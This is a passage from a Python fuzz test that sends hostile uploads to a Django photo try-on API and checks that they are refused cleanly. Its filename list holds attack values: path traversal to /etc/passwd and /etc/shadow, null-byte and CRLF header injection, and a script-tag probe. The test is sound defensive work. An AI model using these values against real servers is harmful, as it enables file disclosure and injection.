            "nested_multipart",
            "huge_header",
        ]
    )
    codes = REQUEST_CODES
    if kind == "field_name":
        name = rng.choice([b"image", b"file", b"photo[]", b"Photo", b"photo ", b"", b"ph\x00to"])
        parts = [*fields, part(name, bad, filename=b"me.jpg")]
        return Case("multipart", f"{kind} {name!r}", form(parts), codes=codes | INVALID)
    if kind == "two_files_last_bad":
        photos_ = [part(b"photo", kit.bases.images["jpeg"], filename=b"a.jpg")]
        photos_.append(part(b"photo", bad, filename=b"b.jpg"))
        return Case("multipart", kind, form([*fields, *photos_]), codes=INVALID)
    if kind in ("many_files", "too_many_files"):
        count = rng.randint(20, 98) if kind == "many_files" else rng.randint(101, 400)
        parts = [part(b"photo", bad, filename=b"p%d.jpg" % i) for i in range(count)]
        return Case("multipart", f"{kind} {count}", form([*fields, *parts]), codes=codes | INVALID)
    if kind == "too_many_fields":
        count = rng.randint(1001, 3000)
        parts = [part(b"f%d" % i, b"x") for i in range(count)]
        return Case("multipart", f"{kind} {count}", form([*fields, *parts]), codes=codes)
    if kind in ("photo_as_text", "photo_as_big_text"):
        size = rng.randint(100, 4000) if kind == "photo_as_text" else rng.randint(3, 9) * MB
        content = kit.bases.images["jpeg"][:size].ljust(size, b"\x00")
        parts = [*fields, part(b"photo", content)]
        return Case("multipart", f"{kind} {size}", form(parts), codes=codes)
    if kind == "no_disposition":
        parts = [*fields, part(None, bad, headers=b"Content-Type: image/jpeg")]
        return Case("multipart", kind, form(parts), codes=codes)
    if kind == "garbage_headers":
        headers = rng.randbytes(rng.randint(1, 200)).replace(b"\r\n\r\n", b"")
        parts = [*fields, part(None, bad, headers=headers)]
        return Case("multipart", kind, form(parts), codes=codes | INVALID | UNSUPPORTED)
    if kind == "no_closing":
        parts = [*fields, part(b"photo", bad, filename=b"me.jpg")]
        return Case("multipart", kind, form(parts, close=False), codes=codes | INVALID)
    if kind == "no_body_separator":
        raw = b'Content-Disposition: form-data; name="photo"; filename="me.jpg"\r\n' + bad
        return Case("multipart", kind, form([*fields, raw]), codes=codes | INVALID)
    if kind == "base64_garbage":
        headers = (
            b'Content-Disposition: form-data; name="photo"; filename="me.jpg"\r\n'
            b"Content-Transfer-Encoding: base64"
        )
        content = rng.choice([b"!!!not base64!!!", base64.b64encode(bad)[:-3], b"=" * 77])
        parts = [*fields, part(None, content, headers=headers)]
        return Case("multipart", kind, form(parts), codes=codes | IMAGE_CODES)
    if kind == "nested_multipart":
        inner = form([part(b"photo", bad, filename=b"me.jpg")], boundary="inner")
        parts = [
            *fields,
            part(b"photo", inner, ctype=b"multipart/mixed; boundary=inner", filename=b"me.jpg"),
        ]
        return Case("multipart", kind, form(parts), codes=codes | INVALID | UNSUPPORTED)
    # huge_header: a part's header far over Django's 1 kB bound
    headers = b'Content-Disposition: form-data; name="photo"; filename="me.jpg"\r\nX-Pad: '
    headers += b"a" * rng.randint(2000, 60_000)
    return Case("multipart", kind, form([*fields, part(None, bad, headers=headers)]), codes=codes)


def filenames(kit: Kit) -> Case:
    """Absurd filenames on files that are not photos."""
    rng = kit.rng
    name = rng.choice(
        [
            b"../../../../etc/passwd",
            b"..\\..\\..\\windows\\win.ini",
            b"/etc/shadow",
            b"a" * 10_000 + b".jpg",
            b"x" * 255 + b".jpg",
            b"me\x00.php.jpg",
            b"me.jpg\x00.html",
            b"\xe2\x80\xaegpj.exe",  # a right-to-left override
            b"me.jpg\r\nContent-Type: text/html",
            b"CON.jpg",
            b".",
            b"..",
            b"",
            b"%2e%2e%2fetc%2fpasswd",
            b"\xff\xfe\xfd.jpg",  # not UTF-8
            b"me.jpg;.php",
            b"<script>alert(1)</script>.jpg",
            "фото-😀.jpg".encode(),
        ]
    )
    content_kind = rng.choice(["html", "truncated", "svg"])
    if content_kind == "truncated":
        content, codes = kit.bases.images["png"][: rng.randint(50, 3000)], INVALID
    else:
        content, codes = rng.choice(MARKUP), UNSUPPORTED
    body = kit.photo(content, filename=name, ctype=kit.image_type())
    return Case("filenames", f"{name[:40]!r} {content_kind}", body, codes=codes | REQUEST_CODES)


def json_bodies(kit: Kit) -> Case:
    rng = kit.rng
    ref = kit.ref
    jpeg64 = base64.b64encode(kit.bases.images["jpeg"])
    kind = rng.choice(
        [
            "photo_base64",
            "photo_data_url",
            "photo_number",
            "photo_list",
            "photo_object",
            "photo_null",
            "deeply_nested",
            "invalid",
            "utf16",
            "nan",
            "huge_string",
            "top_level_list",
        ]
    )
    prefix = b'{"product": "' + ref + b'", "consent": true, "photo": '
    bodies = {
        "photo_base64": prefix + b'"' + jpeg64 + b'"}',
        "photo_data_url": prefix + b'"data:image/jpeg;base64,' + jpeg64 + b'"}',
        "photo_number": prefix + b"1e400}",
        "photo_list": prefix + b"[1, 2, 3]}",
        "photo_object": prefix + b'{"name": "me.jpg", "size": 1, "read": null}}',
        "photo_null": prefix + b"null}",
        "invalid": prefix + rng.randbytes(rng.randint(1, 200)),
        "utf16": (prefix + b'"x"}').decode().encode("utf-16"),
        "nan": prefix + b"NaN}",
        "huge_string": prefix + b'"' + b"A" * rng.randint(1 * MB, 9 * MB) + b'"}',
        "top_level_list": b"[" + prefix + b"1}]",
    }
    if kind == "deeply_nested":
        depth = rng.randint(50_000, 400_000)
        body = prefix + b"[" * depth + b"]" * depth + b"}"
    else:
        body = bodies[kind]
    return Case("json", kind, body, "application/json", codes=REQUEST_CODES)


def length_headers(kit: Kit) -> Case:
    """Missing, malformed or lying Content-Length; chunked bodies."""
    rng = kit.rng
    body = kit.photo(kit.bases.images["jpeg"][: rng.randint(200, 3000)])
    kind = rng.choice(
        [
            "",
            "abc",
            "-1",
            "1e3",
            "0x10",
            " 12 ",
            "\u00b2",
            "\u00b9\u00b2\u00b3",
            "0",
            "short",
            "chunked",
        ]
    )
    codes = frozenset({"LENGTH_REQUIRED"}) | REQUEST_CODES | INVALID
    if kind == "short":  # the length cuts the body short: a truncated form
        length = str(rng.randint(1, len(body) - 1))
        return Case(
            "length_headers",
            f"short {length}",
            body,
            codes=codes | IMAGE_CODES,
            extra={"CONTENT_LENGTH": length},
        )
    if kind == "chunked":
        extra = {"CONTENT_LENGTH": "", "HTTP_TRANSFER_ENCODING": "chunked"}
        return Case("length_headers", kind, body, codes=codes, extra=extra)
    return Case("length_headers", repr(kind), body, codes=codes, extra={"CONTENT_LENGTH": kind})


def wrong_endpoints(kit: Kit) -> Case:
    """A photo (or a big JSON body) sent where no photo is taken."""
    rng = kit.rng
    some = uuid.UUID(int=rng.getrandbits(128), version=4)
    path = rng.choice(
        [
            ME,
            reverse("genlook:tryon-detail", kwargs={"public_id": some}),
            reverse("genlook:tryon-result", kwargs={"public_id": some}),
            reverse("genlook:photo-detail", kwargs={"public_id": some}),
            TRY_ONS,
        ]
    )
    method = rng.choice(["POST", "PUT", "PATCH", "DELETE"])
    if path == TRY_ONS and method == "POST":
        method = "PUT"
    kind = rng.choice(["photo", "json_big", "json_nested"])
    content_type = MULTIPART
    if kind == "photo":
        body = kit.photo(kit.bases.images["jpeg"])
    elif kind == "json_big":
        body = kit.memo("24mb-json", lambda: b'{"a": "' + b"A" * (24 * MB) + b'"}')
        content_type = "application/json"
    else:
        body, content_type = b"[" * 100_000 + b"]" * 100_000, "application/json"
    codes = frozenset({"METHOD_NOT_ALLOWED", "NOT_FOUND", "PHOTO_TOO_LARGE"}) | MEDIA_TYPE
    return Case(
        "wrong_endpoints",
        f"{method} {path[:30]} {kind}",
        body,
        content_type,
        codes=codes,
        method=method,
        path=path,
    )


def valid(kit: Kit) -> Case:
    """Valid edge cases: they must be accepted (counted apart from the bad inputs)."""
    rng = kit.rng
    name = rng.choice(list(kit.bases.valid))
    content = kit.bases.valid[name]
    filename = rng.choice([b"me.jpg", b"../../etc/passwd", b"\xe2\x80\xaegpj.exe", b"x.svg"])
    ctype = rng.choice([b"image/jpeg", b"text/html", b"application/octet-stream", None])
    body = kit.photo(content, filename=filename, ctype=ctype)
    return Case("valid", f"{name} as {filename!r} {ctype!r}", body, expect=ACCEPT)


# family -> (generator, inputs in a full run, inputs scaled down)
FAMILIES: dict[str, tuple[Callable[[Kit], Case], int, int]] = {
    "truncated": (truncated, 200, 28),
    "corrupted": (corrupted, 200, 28),
    "bombs": (bombs, 110, 18),
    "pixel_bombs": (pixel_bombs, 40, 6),
    "polyglots_prepended": (polyglot_prepended, 80, 10),
    "disguised": (disguised, 150, 18),
    "other_formats": (other_formats, 60, 10),
    "empty": (empty, 30, 6),
    "oversized": (oversized, 16, 5),
    "content_types": (content_types, 80, 12),
    "multipart": (multipart_forms, 110, 16),
    "filenames": (filenames, 60, 8),
    "json": (json_bodies, 60, 10),
    "length_headers": (length_headers, 40, 10),
    "wrong_endpoints": (wrong_endpoints, 30, 8),
    "polyglots_appended": (polyglot_appended, 30, 6),
    "valid": (valid, 40, 10),
}


def plan(rng: random.Random) -> list[str]:
    """The families of the run's inputs, shuffled; each input is made just before it is
    sent (a run's bodies are never all held at once)."""
    order = [name for name, (_make, full, ci) in FAMILIES.items() for _ in range(scaled(full, ci))]
    rng.shuffle(order)
    return order


# -- The run ---------------------------------------------------------------------------------------


@dataclass
class Outcome:
    family: str
    label: str
    expect: str
    index: int
    body_bytes: int
    refused_on_length: bool  # over the limit by its Content-Length: must be left unread
    status: int
    code: str | None
    window: Window
    problems: list[str]


def _counts(sandbox) -> dict[str, int]:
    return {
        "try_ons": TryOn.objects.count(),
        "photos": ShopperPhoto.objects.count(),
        "try_on_records": UsageRecord.objects.filter(kind=UsageRecord.Kind.TRY_ON).count(),
        "genlook": sum(
            sandbox.state.count("POST", path, api_key=API_KEY)
            for path in ("/images/upload", "/try-on", "/try-on/sync")
        ),
    }


def _files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


class Run:
    """Sends each input as the shopper and checks what it left behind."""

    def __init__(self, sandbox, tmp_path: Path, known: set[str]) -> None:
        self.sandbox = sandbox
        self.known = known
        self.private = tmp_path / "private"  # the photos' storage (see the storefront fixture)
        self.uploads_tmp = tmp_path / "upload-tmp"
        self.uploads_tmp.mkdir()
        self.shopper = Client(enforce_csrf_checks=True, raise_request_exception=False)
        assert self.shopper.get(ME).status_code == 200
        self.token = self.shopper.cookies["csrftoken"].value
        self.meter = Meter(self.shopper)

    def send(self, case: Case, index: int) -> Outcome:
        before = _counts(self.sandbox)
        stored_before = _files(self.private)
        extra = dict(case.extra)
        if case.content_type is None:
            extra["CONTENT_TYPE"] = ""
        response = self.shopper.generic(
            case.method,
            case.path,
            case.body,
            content_type=case.content_type or "",
            headers={"X-CSRFToken": self.token},
            **extra,
        )
        window = self.meter.last
        status = response.status_code
        problems: list[str] = []
        if status >= 500:
            exc = getattr(response, "exc_info", None)
            problems.append(f"answered {status}" + (f" ({exc[1]!r})" if exc else ""))
        try:
            body = response.json()
        except ValueError:
            body = None
            problems.append(f"{status} without a JSON body: {response.content[:80]!r}")
        accepted = 200 <= status < 300
        code = None
        if not accepted and body is not None and not isinstance(body, dict):
            problems.append(f"{status} with a JSON body that is no error: {body!r:.80}")
        if isinstance(body, dict) and not accepted:
            code = body.get("code")
            if code not in self.known:
                problems.append(f"{status} with an undocumented code {code!r}")
            if body.get("status") != status or not body.get("message"):
                problems.append(f"{status}: not the error shape: {body}")
            if code not in case.codes:
                problems.append(f"{status} {code}, expected one of {sorted(case.codes)}")
        after = _counts(self.sandbox)
        stored = _files(self.private) - stored_before
        if accepted:
            problems += self._check_accepted(case, before, after)
        else:
            if not 400 <= status < 500:
                problems.append(f"answered {status}")
            if case.expect == ACCEPT:
                problems.append(f"a valid input refused: {status} {code}")
            if after != before:
                problems.append(f"refused, but rows or Genlook calls changed: {before} -> {after}")
            if stored:
                problems.append(f"refused, but files were stored: {sorted(map(str, stored))[:3]}")
        leftovers = list(self.uploads_tmp.iterdir())
        if leftovers:
            problems.append(f"temporary upload files left: {[p.name for p in leftovers][:3]}")
            for path in leftovers:
                path.unlink()
        length = case.extra.get("CONTENT_LENGTH", str(len(case.body)))
        return Outcome(
            family=case.family,
            label=case.label,
            expect=case.expect,
            index=index,
            body_bytes=len(case.body),
            refused_on_length=length.isascii() and length.isdigit() and int(length) > 11 * MB,
            status=status,
            code=code,
            window=window,
            problems=problems,
        )

    def _check_accepted(self, case: Case, before: dict, after: dict) -> list[str]:
        if case.expect == REJECT:
            return ["accepted a bad input"]
        if after["try_ons"] != before["try_ons"] + 1 or after["photos"] != before["photos"] + 1:
            return [f"accepted, but rows {before} -> {after}"]
        if after["genlook"] <= before["genlook"]:
            return ["accepted, but nothing was sent to Genlook"]
        photo = ShopperPhoto.objects.order_by("-pk").first()
        if not photo.file_name.startswith("genlook/photos/"):
            return [f"stored under {photo.file_name!r}"]
        with files.photos_storage().open(photo.file_name, "rb") as handle:
            clean = handle.read()
        if not clean.startswith(b"\xff\xd8\xff") or any(m in clean for m in PAYLOAD_MARKERS):
            return ["the stored photo is not a clean JPEG"]
        return []


def test_hostile_uploads_are_refused_cleanly(
    storefront,  # noqa: F811  (imported fixtures)
    product,  # noqa: F811
    settings,
    tmp_path,
    figures,
):
    # Quotas would answer 429 after a few uploads (they are tested on their own): here
    # every input reaches the photo pipeline.
    settings.GENLOOK = {
        **settings.GENLOOK,
        "UPLOAD_QUOTA": None,
        "TRY_ON_QUOTA": None,
        "IP_UPLOAD_QUOTA": None,
        "IP_TRY_ON_QUOTA": None,
        "UPLOAD_BUDGET": None,
        "DAILY_TRY_ON_BUDGET": None,
    }
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "upload-tmp")
    # What is accepted (valid edge cases, neutralised polyglots) is submitted: let the
    # sandbox take it all without a 429, and generate nothing while the run measures.
    storefront.state.add_account(API_KEY, credits=100_000)
    storefront.state.configure(rate_limit=100_000, generation_seconds=3600)
    documented = documented_codes()
    assert {"PHOTO_INVALID", "PHOTO_TOO_LARGE", "PHOTO_TOO_MANY_PIXELS"} <= documented
    known = documented | set(MESSAGES)  # the docs' table, and the API's own definitions

    started = time.perf_counter()
    rng = random.Random(SEED)
    kit = Kit(rng, product_ref(product), Bases(random.Random(SEED)))
    order = plan(rng)
    run = Run(storefront, tmp_path, known)
    making = 0.0
    outcomes: list[Outcome] = []
    tracing = tracemalloc.is_tracing()
    if not tracing:
        tracemalloc.start(1)
    try:
        for index, family in enumerate(order):
            made = time.perf_counter()
            case = FAMILIES[family][0](kit)
            making += time.perf_counter() - made
            outcomes.append(run.send(case, index))
            del case
    finally:
        if not tracing:
            tracemalloc.stop()
    seconds = time.perf_counter() - started

    _record(figures, outcomes, documented, making, seconds)
    problems = [
        f"#{o.index} {o.family} [{o.label[:70]}]: " + "; ".join(o.problems)
        for o in outcomes
        if o.problems
    ]
    assert not problems, (
        f"{len(problems)} of {len(outcomes)} inputs mishandled (seed {SEED}):\n"
        + "\n".join(problems[:40])
    )
    if full_run():
        assert figures["inputs"] >= 1000
    _check_memory(outcomes)


def _mib(value: float | None) -> str:
    return "n/a" if value is None else f"{value / MB:.1f} MiB"


def _peak(values) -> float | None:
    values = [v for v in values if v is not None]
    return max(values) if values else None


def _record(figures, outcomes: list[Outcome], documented, making: float, seconds: float) -> None:
    bad = [o for o in outcomes if o.expect == REJECT]
    tolerated = [o for o in outcomes if o.expect == EITHER]
    valid_ = [o for o in outcomes if o.expect == ACCEPT]
    families: dict[str, Counter] = {}
    for o in outcomes:
        families.setdefault(o.family, Counter())[o.expect] += 1
    codes = Counter(o.code for o in outcomes if o.code)
    big = [o for o in outcomes if o.body_bytes > 20 * MB]
    bombs_ = [o for o in outcomes if o.family in ("bombs", "pixel_bombs")]
    figures["inputs"] = len(bad)
    figures.update(
        seed=SEED,
        requests=len(outcomes),
        corrupt_but_decodable=f"{len(tolerated)} "
        f"({sum(1 for o in tolerated if o.status < 300)} accepted, the rest refused)",
        valid_edge_cases=f"{len(valid_)} ({sum(1 for o in valid_ if o.status < 300)} accepted)",
        per_family={
            name: " ".join(f"{k}={v}" for k, v in sorted(c.items()))
            for name, c in sorted(families.items())
        },
        status_codes={str(k): v for k, v in sorted(Counter(o.status for o in outcomes).items())},
        error_codes=dict(codes.most_common()),
        codes_not_in_docs_table=sorted(set(codes) - documented),
        answers_5xx=sum(1 for o in outcomes if o.status >= 500),
        bad_inputs_accepted=sum(1 for o in bad if o.status < 300),
        bodies_of_20mb_or_more=len(big),
        traced_peak_per_request=_mib(_peak(o.window.traced_peak for o in outcomes)),
        traced_peak_bodies_20mb_plus=_mib(_peak(o.window.traced_peak for o in big)),
        traced_peak_bombs=_mib(_peak(o.window.traced_peak for o in bombs_)),
        rss_peak_growth_per_request=_mib(_peak(o.window.rss_peak for o in outcomes)),
        rss_peak_growth_bombs=_mib(_peak(o.window.rss_peak for o in bombs_)),
        rss_peak_growth_bodies_20mb_plus=_mib(_peak(o.window.rss_peak for o in big)),
        rss_peak_request=next(
            (
                f"{o.family} [{o.label[:40]}]"
                for o in sorted(outcomes, key=lambda o: -(o.window.rss_peak or 0))[:1]
                if o.window.rss_peak is not None
            ),
            "n/a",
        ),
        ms_per_request_mean=round(
            1000 * sum(o.window.seconds for o in outcomes) / len(outcomes), 1
        ),
        ms_per_request_max=round(1000 * max(o.window.seconds for o in outcomes), 1),
        slowest_requests=[
            f"{o.family} [{o.label[:40]}] {1000 * o.window.seconds:.0f} ms"
            for o in sorted(outcomes, key=lambda o: -o.window.seconds)[:3]
        ],
        seconds_making_inputs=round(making, 1),
        seconds_total=round(seconds, 1),
    )


def _check_memory(outcomes: list[Outcome]) -> None:
    """The bounds that show bodies and bombs are refused before they are read or decoded."""
    for o in outcomes:
        where = f"#{o.index} {o.family} [{o.label[:60]}]"
        traced, rss = o.window.traced_peak, o.window.rss_peak
        # Files over 2.5 MB go to disk, JSON or form bodies over 2.5 MB are refused unread
        # (DATA_UPLOAD_MAX_MEMORY_SIZE): at most a photo's 10 MB, read once, is held.
        assert traced < 24 * MB, f"{where}: {_mib(traced)} traced"
        if o.refused_on_length:  # over the limit by its Content-Length: never read
            assert traced < 1 * MB, f"{where}: {_mib(traced)} traced"
            assert rss is None or rss < 8 * MB, f"{where}: resident +{_mib(rss)}"
        if rss is not None:
            # A bomb would take 64 MB to 16 GB decoded: it is refused from its header.
            limit = 16 * MB if o.family in ("bombs", "pixel_bombs") else 96 * MB
            assert rss < limit, f"{where}: resident +{_mib(rss)}"
